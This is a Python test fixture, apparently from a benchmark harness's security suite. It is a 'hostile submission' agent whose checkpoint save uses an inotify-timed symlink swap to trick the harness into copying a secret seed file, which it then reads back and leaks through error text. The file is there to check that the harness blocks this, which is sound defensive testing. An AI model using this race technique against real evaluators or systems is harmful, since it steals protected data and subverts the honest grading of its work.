"""Hostile submission checkpoint_swap: expect error (report): swaps a folder of its checkpoint for a symlink to the secret's folder while the harness copies it out."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "targets.json")) as _f:
        TARGETS = json.load(_f)  # paths the test wants attacked; never the secret itself
except OSError:
    TARGETS = {}


class Report(Exception):
    """Carries what the attack found out through the only channel it has: the trial's error text."""


def report(found):
    for width in (None, 300, 100, 40):  # the harness keeps the last 4000 characters of the error text
        text = json.dumps({str(k): v if width is None else _short(v, width) for k, v in found.items()}, default=repr)
        if len(text) < 3000:
            break
    raise Report("REPORT " + text)


def _short(value, width):
    if isinstance(value, (int, float, bool)) or value is None:
        return value
    return (value if isinstance(value, str) else repr(value))[:width]


def attempt(fn, *args):
    """'ok: <result>' or '<exception type>: <message>', never raising."""
    try:
        return "ok: " + repr(fn(*args))[:200]
    except BaseException as exc:  # noqa: BLE001 - attack code reports everything
        return f"{type(exc).__name__}: {exc}"[:200]


import ctypes
import os
import struct
import threading

import arena

IN_OPEN = 0x20


def _swap_when_copied(folder, secret_dir, ready):
    """Once the harness opens the first file of folder/ (its listing is done), make folder a symlink."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    libc.inotify_add_watch(fd, os.fsencode(folder), IN_OPEN)
    ready.set()
    opened = False
    while not opened:  # the folder's own opening (the listing) names no file; a copy does
        data = os.read(fd, 65536)
        offset = 0
        while offset < len(data):
            _, _, _, size = struct.unpack_from("iIII", data, offset)
            opened = opened or bool(data[offset + 16 : offset + 16 + size].rstrip(b"\0"))
            offset += 16 + size
    os.rename(folder, str(folder) + "-real")
    os.symlink(secret_dir, folder)


class Agent(arena.Agent):
    stolen = "nothing"

    def meta_train(self, tasks):
        pass

    def save(self, path):
        secret = TARGETS.get("secret_file", "/nonexistent/test-seed")
        folder = path / "b"
        folder.mkdir()
        for index in range(2000):  # the harness copies these first: time to swap the folder
            (folder / f"{index:04d}").write_text("decoy")
        (folder / os.path.basename(secret)).write_text("decoy")  # listed under the secret file's own name
        ready = threading.Event()
        threading.Thread(target=_swap_when_copied, args=(folder, os.path.dirname(secret), ready), daemon=True).start()
        ready.wait()

    def load(self, path):
        secret = TARGETS.get("secret_file", "/nonexistent/test-seed")
        self.stolen = attempt(lambda: (path / "b" / os.path.basename(secret)).read_text())

    def adapt(self, env):
        report({"stolen": self.stolen})

    def act(self, observation, info):
        return 0
